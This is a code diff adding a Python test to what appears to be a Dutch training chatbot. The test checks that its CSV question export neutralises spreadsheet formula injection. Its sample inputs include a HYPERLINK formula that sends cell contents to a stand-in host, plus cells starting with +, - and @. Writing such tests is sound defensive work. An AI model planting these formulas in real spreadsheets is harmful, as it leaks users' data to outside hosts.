@@ -123,3 +123,27 @@ def test_queue_groups_similar_questions_and_exports_to_a_spreadsheet(tmp_path: P
             ("Mag de hond mee naar de les?", "2"),
             ("Is er koffie?", "1"),
         ]
+
+
+def test_no_exported_cell_starts_like_a_formula(tmp_path: Path) -> None:
+    import csv
+    import os
+
+    omgeving = {**os.environ, "OPLEIDINGSBOT_DATA_MAP": str(tmp_path / "data")}
+    aanval = [
+        '=HYPERLINK("http://x.example/?"&A1;"klik")',
+        "+mag de hond mee naar kantoor",
+        "-waar staat de koffieautomaat",
+        "@SUM(A1) waar kan ik parkeren",
+    ]
+    for vraag in aanval:
+        opleidingsbot("ask", vraag, "--gemeente", "haarlem", "--wachtrij", omgeving=omgeving)
+    pad = tmp_path / "wachtrij.csv"
+    assert opleidingsbot("vragen", "export", str(pad), omgeving=omgeving).returncode == 0
+    with pad.open(encoding="utf-8-sig", newline="") as f:
+        cellen = [c for rij in csv.reader(f, delimiter=";") for c in rij]
+    assert cellen and not [c for c in cellen if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    from knowledge.tabel import lees_tabel
+
+    gelezen = {r["vraag"] for _, r in lees_tabel(pad, ("vraag",))}
+    assert gelezen == set(aanval)
